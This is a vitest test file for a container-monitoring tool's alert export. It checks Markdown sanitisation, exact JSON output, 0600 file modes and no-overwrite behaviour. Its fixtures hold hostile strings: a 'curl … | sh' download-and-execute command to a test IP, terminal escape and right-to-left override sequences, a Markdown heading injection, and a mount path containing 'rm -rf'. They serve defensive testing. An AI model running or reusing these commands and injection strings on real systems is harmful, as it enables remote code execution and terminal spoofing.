// The incident-report export on contexts built by the real engine: what each file holds,
// hostile strings inert in the Markdown and exact in the JSON, private files, no overwrites.
import { mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Alert } from '../src/engine/alert.js';
import type { VigilEvent } from '../src/engine/events.js';
import type { Profile } from '../src/engine/profile.js';
import { loadProfile } from '../src/profile/load.js';
import { terminalSafe } from '../src/text/terminal-safe.js';
import { alertContext, type AlertContext } from '../src/ui/model/alert-context.js';
import { EventWindow } from '../src/ui/model/event-window.js';
import { exportAlerts } from '../src/ui/model/export.js';
import { runEngine, snapshotEvent, snapshotFixture } from './helpers/engine.js';
import { auditExec, CONTAINER, procSnapshot } from './helpers/kernel-events.js';

const NOW = new Date('2026-11-27T10:00:00.123Z');
const STEM = 'vigil-alerts-20261127T100000Z';

// What an attacker controls: backtick runs and fences, line breaks with Markdown after them,
// terminal escapes (colour, an OSC 8 hyperlink) and a right-to-left override.
const HOSTILE_NAME = 'web`x```\n# injected\x1b[31m\u202Eevil';
const HOSTILE_COMMAND = 'curl -s http://203.0.113.7/x | sh # ```` fence\n## heading \x1b]8;;http://evil\x07link\u202E';
const HOSTILE_MOUNT = '/data/`rm -rf`/``';

let profile: Profile;
let dir: string;
beforeAll(async () => {
  profile = await loadProfile();
});
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'vigil-export-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

/**
 * A container with a host mount and SYS_ADMIN; in it, under the shim, init and a shell, a
 * download-and-execute command with a child of its own.
 */
function incident(): { contexts: AlertContext[]; alerts: Alert[]; events: VigilEvent[] } {
  const container = snapshotFixture('mount-mixed', {
    id: CONTAINER,
    name: HOSTILE_NAME,
    capAdd: ['SYS_ADMIN'],
    user: '1000:1000',
  });
  container.mounts.push({ type: 'bind', source: HOSTILE_MOUNT, destination: '/mnt', rw: false, propagation: 'rprivate' });
  const events: VigilEvent[] = [
    snapshotEvent(container, 'start', 1),
    procSnapshot({ pid: 4100, ppid: 1, startTime: 3000, exe: '/usr/bin/containerd-shim-runc-v2', cmdline: ['containerd-shim-runc-v2', '-namespace', 'moby'], containerId: undefined }),
    procSnapshot({ pid: 4200, ppid: 4100, startTime: 4000, exe: '/bin/sh', cmdline: ['sh'] }),
    procSnapshot({ pid: 4242, ppid: 4200, startTime: 4500, exe: '/bin/bash', cmdline: ['bash', '-i'], uid: 1000, euid: 0 }),
    auditExec({ pid: 4300, ppid: 4242, startTime: 5000, exe: '/bin/sh', cmdline: ['sh', '-c', HOSTILE_COMMAND] }),
    procSnapshot({ pid: 4301, ppid: 4300, startTime: 5100, exe: '/usr/bin/curl', cmdline: ['curl', '-s', 'http://203.0.113.7/x'] }),
  ];
  const { alerts, engine } = runEngine(events, profile);
  const window = new EventWindow();
  for (const event of events) window.add(event);
  return { contexts: alerts.map((a) => alertContext(a, engine, window)), alerts, events };
}

function commandContext(contexts: AlertContext[]): AlertContext {
  return contexts.find((c) => c.alert.ruleId === 'system.high_risk_command')!;
}

/** The Markdown's block structure as a CommonMark reader sees it: headings outside fenced blocks, and the blocks. */
function blocks(markdown: string): { headings: string[]; fences: { info: string; body: string[] }[]; open: boolean } {
  const headings: string[] = [];
  const fences: { info: string; body: string[] }[] = [];
  let fence: { run: number; info: string; body: string[] } | undefined;
  for (const line of markdown.split('\n')) {
    if (fence) {
      const close = /^ {0,3}(`+)\s*$/.exec(line);
      if (close && close[1]!.length >= fence.run) {
        fences.push({ info: fence.info, body: fence.body });
        fence = undefined;
      } else fence.body.push(line);
      continue;
    }
    const opening = /^ {0,3}(`{3,})([^`]*)$/.exec(line);
    if (opening) fence = { run: opening[1]!.length, info: opening[2]!, body: [] };
    else if (/^ {0,3}#{1,6}(\s|$)/.test(line)) headings.push(line);
  }
  return { headings, fences, open: fence !== undefined };
}

/** The code spans of a line, their content as CommonMark renders it. */
function codeSpans(line: string): string[] {
  const spans: string[] = [];
  const runs = [...line.matchAll(/`+/g)];
  for (let i = 0; i < runs.length; i++) {
    const open = runs[i]!;
    const j = runs.findIndex((r, k) => k > i && r[0].length === open[0].length);
    if (j === -1) continue;
    const content = line.slice(open.index + open[0].length, runs[j]!.index);
    spans.push(/^ .*[^ ].* $/.test(content) || /^ [^ ] $/.test(content) ? content.slice(1, -1) : content);
    i = j;
  }
  return spans;
}

describe('exportAlerts', () => {
  it('writes every alert with its context to a Markdown and a JSON file', async () => {
    const { contexts, alerts } = incident();
    expect(alerts.map((a) => a.ruleId).sort()).toEqual(['system.container_mounts', 'system.container_security_options', 'system.high_risk_command']);
    const files = await exportAlerts(contexts, dir, NOW);
    expect(files).toEqual({ markdown: join(dir, `${STEM}.md`), json: join(dir, `${STEM}.json`) });

    const md = await readFile(files.markdown, 'utf8');
    const { headings, fences, open } = blocks(md);
    expect(open).toBe(false);
    const perAlert = (title: string, n: number, tree: boolean) => [
      `## ${n}. ${title}`,
      '### Summary',
      '### Evidence',
      ...(tree ? ['### Process tree (▶ the alert’s process)'] : []),
      '### Container',
      '### Mounts',
      '### Raw events',
    ];
    expect(headings).toEqual([
      '# vigil alerts',
      ...contexts.flatMap((c, i) => perAlert(`${c.alert.title} / ${c.alert.titleZh}`, i + 1, c.alert.process !== undefined)),
    ]);
    expect(md).toContain('Exported 2026-11-27T10:00:00.123Z: 3 alerts.');

    const command = commandContext(contexts);
    const section = md.slice(md.indexOf('High-risk command execution / 高危命令执行'));
    for (const line of [
      '- **Severity:** high',
      '- **Rule:** `system.high_risk_command` (Abnormal system behaviour / 系统异常行为)',
      '- **ATT&CK:** `T1059`',
      `- **Time:** \`${command.alert.ts}\``,
      `- **Alert id:** \`${command.alert.id}\``,
      `- **Image:** \`vigil-test/busybox:1\` (\`${command.container!.imageId}\`)`,
      '- **Privileged:** no',
      '- **Capabilities added:** `SYS_ADMIN`',
      '- **Capabilities dropped:** *none*',
      '- **Namespaces:** `pid=private`, `network=none`, `ipc=private`, `uts=private`, `user=default`, `cgroup=host`',
      '- **User:** `1000:1000`',
      '- **Read-only root filesystem:** no',
      '- `bind` `/etc` → `/hostetc` (read-only, propagation `rprivate`)',
    ]) {
      expect(section).toContain(`\n${line}\n`);
    }

    // The process tree: ancestry indented from the shim, the offender marked, then its child.
    const treeBlock = fences.find((f) => f.body.some((l) => l.includes('▶')))!;
    expect(treeBlock.info).toBe('text');
    expect(treeBlock.body).toEqual([
      '  4100 uid 0 /usr/bin/containerd-shim-runc-v2: containerd-shim-runc-v2 -namespace moby  (host)',
      '    4200 uid 0 /bin/sh: sh',
      '      4242 uid 1000 euid 0 /bin/bash: bash -i',
      `▶       4300 uid 0 /bin/sh: sh -c ${terminalSafe(JSON.stringify(HOSTILE_COMMAND), 1e6)}`,
      '          4301 uid 0 /usr/bin/curl: curl -s http://203.0.113.7/x',
    ]);

    // Evidence and raw events as JSON; every event behind the alert is there.
    const jsonBlocks = fences.filter((f) => f.info === 'json').map((f) => f.body.join('\n'));
    expect(jsonBlocks.some((b) => b.includes('"pattern": "download-and-execute"'))).toBe(true);
    const rawEvents = jsonBlocks.filter((b) => b.startsWith('[')).map((b) => JSON.parse(b.replace(/\\u202e/g, '\\u202E').replace(/\\x1b/g, '\\u001b').replace(/\\x07/g, '\\u0007')) as VigilEvent[]);
    expect(rawEvents).toContainEqual(command.events);

    const json = JSON.parse(await readFile(files.json, 'utf8')) as unknown;
    expect(json).toEqual({
      format: 'vigil-alerts',
      version: 1,
      exportedAt: '2026-11-27T10:00:00.123Z',
      alerts: JSON.parse(JSON.stringify(contexts.map((c) => ({ ...c, container: c.container ?? null })))) as unknown,
    });
  });

  it('keeps hostile strings inert in the Markdown and exact in the JSON', async () => {
    const { contexts } = incident();
    const files = await exportAlerts(contexts, dir, NOW);
    const md = await readFile(files.markdown, 'utf8');

    // No terminal control reaches a terminal that shows the file.
    expect(md).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(md).toContain('\\x1b[31m\\u202eevil');

    // No line break of an attacker's string makes a heading or closes a block early.
    const { headings, fences, open } = blocks(md);
    expect(open).toBe(false);
    expect(headings.filter((h) => h.includes('injected') || h.includes('heading'))).toEqual([]);
    const summary = fences.find((f) => f.body.some((l) => l.startsWith('download-and-execute')))!;
    expect(summary.body).toEqual([terminalSafe(`download-and-execute: sh -c ${HOSTILE_COMMAND}`)]);

    // Code spans hold the whole string, backticks included.
    const containerLine = md.split('\n').find((l) => l.startsWith('- **Container:**'))!;
    expect(codeSpans(containerLine)).toEqual([terminalSafe(HOSTILE_NAME), CONTAINER.slice(0, 12), 'vigil-test/busybox:1']);
    const mountLine = md.split('\n').find((l) => l.includes('/mnt'))!;
    expect(codeSpans(mountLine)).toEqual(['bind', HOSTILE_MOUNT, '/mnt', 'rprivate']);

    // The JSON holds the exact strings.
    const raw = await readFile(files.json, 'utf8');
    expect(raw).toContain('\u202E');
    expect(raw).not.toContain('\x1b');
    const [first] = (JSON.parse(raw) as { alerts: { alert: Alert; events: VigilEvent[] }[] }).alerts;
    expect(first!.alert.container!.name).toBe(HOSTILE_NAME);
    const command = (JSON.parse(raw) as { alerts: { alert: Alert }[] }).alerts.find((a) => a.alert.ruleId === 'system.high_risk_command')!;
    expect(command.alert.process!.cmdline).toEqual(['sh', '-c', HOSTILE_COMMAND]);
  });

  it('says what is no longer held in memory', async () => {
    const { contexts } = incident();
    const command = commandContext(contexts);
    const evicted: AlertContext = { ...command, container: undefined, processTree: [], events: [], missingEvents: command.alert.events };
    const md = await readFile((await exportAlerts([evicted], dir, NOW)).markdown, 'utf8');
    expect(md).toContain('The container’s details are no longer held in memory.');
    expect(md).toContain(`No longer held in memory: seq ${command.alert.events.join(', ')}.`);
    // The alert's own process still shows, marked.
    expect(md).toContain('\n▶ 4300 uid 0 /bin/sh: sh -c ');
  });

  it('creates the files 0600 and never overwrites one', async () => {
    const { contexts } = incident();
    await writeFile(join(dir, `${STEM}.md`), 'mine');
    await writeFile(join(dir, 'victim'), 'untouched');
    await symlink(join(dir, 'victim'), join(dir, `${STEM}-1.json`));
    await writeFile(join(dir, `${STEM}-3.json`), 'mine too');

    const names = [];
    for (let i = 0; i < 2; i++) {
      const files = await exportAlerts(contexts, dir, NOW);
      for (const path of [files.markdown, files.json]) expect((await stat(path)).mode & 0o777).toBe(0o600);
      names.push(files.markdown, files.json);
    }
    expect(names).toEqual([`${STEM}-2.md`, `${STEM}-2.json`, `${STEM}-4.md`, `${STEM}-4.json`].map((n) => join(dir, n)));
    expect(await readFile(join(dir, `${STEM}.md`), 'utf8')).toBe('mine');
    expect(await readFile(join(dir, 'victim'), 'utf8')).toBe('untouched');
    expect(await readFile(join(dir, `${STEM}-3.json`), 'utf8')).toBe('mine too');
    // A name given up leaves nothing behind.
    expect((await readdir(dir)).sort()).toEqual(
      ['victim', `${STEM}.md`, `${STEM}-1.json`, `${STEM}-2.json`, `${STEM}-2.md`, `${STEM}-3.json`, `${STEM}-4.json`, `${STEM}-4.md`].sort(),
    );
  });

  it('rejects with one line naming the file when the directory is missing', async () => {
    const missing = join(dir, 'nope');
    await expect(exportAlerts([], missing, NOW)).rejects.toThrow(`${join(missing, STEM)}.md: cannot write the export (no such file or directory)`);
  });
});
